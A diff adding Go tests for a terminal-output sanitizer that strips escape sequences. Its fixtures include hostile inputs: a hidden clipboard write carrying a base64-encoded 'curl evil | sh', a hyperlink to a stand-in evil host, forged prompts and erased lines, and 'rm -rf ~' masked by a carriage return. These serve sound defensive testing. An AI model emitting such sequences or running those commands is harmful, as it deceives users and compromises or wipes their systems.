@@ -0,0 +1,60 @@
+package sanitize
+
+import (
+	"reflect"
+	"testing"
+)
+
+func TestText(t *testing.T) {
+	tests := []struct {
+		name   string
+		input  string
+		want   string
+		report Report
+	}{
+		{"plain", "ok\n\ttabbed ünïcode\n", "ok\n\ttabbed ünïcode\n", Report{}},
+		{"crlf kept", "a\r\nb\r\n", "a\r\nb\r\n", Report{}},
+		{"colours", "\x1b[1;31mFAIL\x1b[0m main.go", "FAIL main.go", Report{CSI: 2}},
+		{"cursor up and erase", "safe\x1b[1A\x1b[2Kforged", "safeforged", Report{CSI: 2}},
+		{"c1 csi", "a\u009b2Jb", "ab", Report{CSI: 1}},
+		{
+			"hyperlink keeps text",
+			"see \x1b]8;;https://evil.example/\x1b\\docs\x1b]8;;\x1b\\ here",
+			"see docs here",
+			Report{Hyperlink: 2},
+		},
+		{"clipboard write", "done\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07", "done", Report{Clipboard: 1}},
+		{"window title", "\x1b]0;Approve? [y/N]\x07text", "text", Report{OSC: 1}},
+		{"unterminated osc", "text\x1b]52;c;AAAA", "text", Report{Clipboard: 1}},
+		{"dcs", "a\x1bPq#0;2;0;0;0\x1b\\b", "ab", Report{ControlString: 1}},
+		{"charset and reset", "\x1b(Bx\x1bcy", "xy", Report{Escape: 2}},
+		{
+			"carriage return overwrite",
+			"rm -rf ~\rls -la   \n",
+			"rm -rf ~\nls -la   \n",
+			Report{CarriageReturn: 1},
+		},
+		{"backspace and bell", "ab\bc\a", `ab\x08c\x07`, Report{Control: 2}},
+		{"trailing escape", "x\x1b", `x\x1b`, Report{Control: 1}},
+		{"c1 control", "a\u0085b", `a\x85b`, Report{Control: 1}},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, report := Text(tt.input)
+			if got != tt.want {
+				t.Errorf("Text(%q) = %q, want %q", tt.input, got, tt.want)
+			}
+			if !reflect.DeepEqual(report, tt.report) {
+				t.Errorf("Text(%q) report = %v, want %v", tt.input, report, tt.report)
+			}
+		})
+	}
+}
+
+func TestReportKinds(t *testing.T) {
+	report := Report{OSC: 1, CSI: 3, CarriageReturn: 2}
+	want := []string{CarriageReturn, CSI, OSC}
+	if got := report.Kinds(); !reflect.DeepEqual(got, want) {
+		t.Errorf("Kinds() = %v, want %v", got, want)
+	}
+}